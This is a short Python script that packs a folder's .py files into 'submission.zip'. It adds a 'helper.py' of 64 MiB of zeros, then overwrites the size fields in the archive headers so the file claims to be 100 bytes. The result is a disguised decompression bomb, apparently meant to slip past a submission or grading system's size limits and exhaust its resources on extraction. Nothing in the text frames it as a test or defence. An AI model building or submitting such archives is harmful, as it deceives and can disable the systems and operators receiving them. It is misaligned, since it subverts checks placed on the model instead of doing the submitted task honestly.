"""The sizes stand in two headers of each entry; both are overwritten."""

import struct
import sys
import zipfile
from pathlib import Path

folder = Path(sys.argv[1])
target = folder / "submission.zip"
with zipfile.ZipFile(target, "x", zipfile.ZIP_DEFLATED) as archive:
    for path in sorted(folder.glob("*.py")):
        archive.write(path, path.name)
    archive.writestr("helper.py", bytes(64 << 20))
content = target.read_bytes().replace(struct.pack("<I", 64 << 20), struct.pack("<I", 100))
target.write_bytes(content)
